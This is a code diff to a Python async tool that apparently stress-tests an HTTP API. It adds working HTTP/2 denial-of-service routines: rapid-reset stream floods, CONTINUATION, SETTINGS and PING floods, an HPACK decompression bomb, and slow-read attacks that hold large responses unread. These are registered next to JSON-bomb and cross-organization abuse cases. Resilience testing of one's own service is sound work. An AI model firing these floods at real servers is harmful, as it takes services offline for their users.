@@ -178,17 +178,73 @@ async def header_flood(attack, reader, writer, until):
     return False
 
 
-async def http_2_floods(attack, reader, writer, until):
-    def frame(kind, flags, stream, payload):
-        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+def frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
-    rapid = b"".join(frame(1, 5, n, b"\x82\x87\x84") + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 400, 2))
-    continuation = frame(1, 0, 1, b"\x82") + frame(9, 0, 1, bytes(64)) * 200
-    flood = random.choice([rapid, continuation, frame(4, 0, 0, b"\0\4\0\0\0\0") * 400, frame(6, 0, 0, bytes(8)) * 400])
-    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + flood)
+
+def field(name, value):
+    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
+def question(path):
+    return b"\x82\x86" + field(":path", path) + field(":authority", "x")
+
+
+BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
+
+
+async def http_2_floods(attack, reader, writer, until):
+    """Taken back at once, headers without an end, settings and pings to confirm, fields that unpack to megabytes."""
+    page = question("/api/v1/lines")
+    rapid = b"".join(frame(1, 5, n, page) + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 400, 2))
+    continuation = frame(1, 0, 1, b"\x82") + frame(9, 0, 1, bytes(64)) * 2000
+    bomb = page + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 8000
+    bombs = b"".join(frame(1, 5, n, bomb) for n in range(1, 100, 2))
+    name, flood = random.choice([
+        ("taken back", rapid), ("continuations", continuation), ("settings", frame(4, 0, 0, b"\0\4\0\0\0\0") * 2000), ("pings", frame(6, 0, 0, bytes(8)) * 2000),
+        ("bombs", bombs),
+    ])
+    writer.write(BEGIN + flood)
+    writer.write_eof()
+    while await asyncio.wait_for(reader.read(65536), 20):
+        pass
+    attack.count(name)
+    return False
+
+
+async def http_2_taken_back(attack, reader, writer, until):
+    """One request after the other, each of which reaches the server and is taken back then."""
+    writer.write(BEGIN)
+    page, stream = question("/api/v1/lines"), 1
+    while time.perf_counter() < until and not reader.at_eof():
+        writer.write(frame(1, 5, stream, page))
+        await writer.drain()
+        await asyncio.sleep(0.001)
+        writer.write(frame(3, 0, stream, b"\0\0\0\x08"))
+        stream += 2
+        reader._buffer.clear()
+    attack.count("connections ended")
+    return False
+
+
+async def http_2_not_taken(attack, reader, writer, until):
+    """Long answers, for which there is no room at the client, as many as one connection has."""
+    writer.write(BEGIN + frame(4, 0, 0, b"\0\4\0\0\0\0") + b"".join(frame(1, 5, n, question("/api/v1/openapi.json")) for n in range(1, 200, 2)))
     await writer.drain()
-    await asyncio.wait_for(reader.read(), 20)
-    attack.count("hung up")
+    while time.perf_counter() < until and not reader.at_eof():
+        writer.write(frame(6, 0, 0, bytes(8)))
+        await asyncio.sleep(1)
+        reader._buffer.clear()
+    attack.count("held")
+    return False
+
+
+async def not_taken(attack, reader, writer, until):
+    """A long answer, of which nothing is read."""
+    writer.transport.pause_reading()
+    writer.write(b"GET /api/v1/openapi.json HTTP/1.1\r\nhost: x\r\naccept-encoding: br\r\n\r\n")
+    await asyncio.sleep(max(0, until - time.perf_counter()))
+    attack.count("held")
     return False
 
 
@@ -277,6 +333,9 @@ def main():
             f"idle, {many} connections": (many, idle),
             "header floods": (32, header_flood),
             "HTTP/2 floods": (32, http_2_floods),
+            "HTTP/2 requests taken back": (32, http_2_taken_back),
+            "HTTP/2 answers not taken": (100, http_2_not_taken),
+            f"answers not taken, {many // 2} connections": (many // 2, not_taken),
             "giant JSON": (32, giant_json),
             "deep JSON": (32, deep_json),
             "filters and cursors, by a key of another organization": (64, abuse(attacker)),
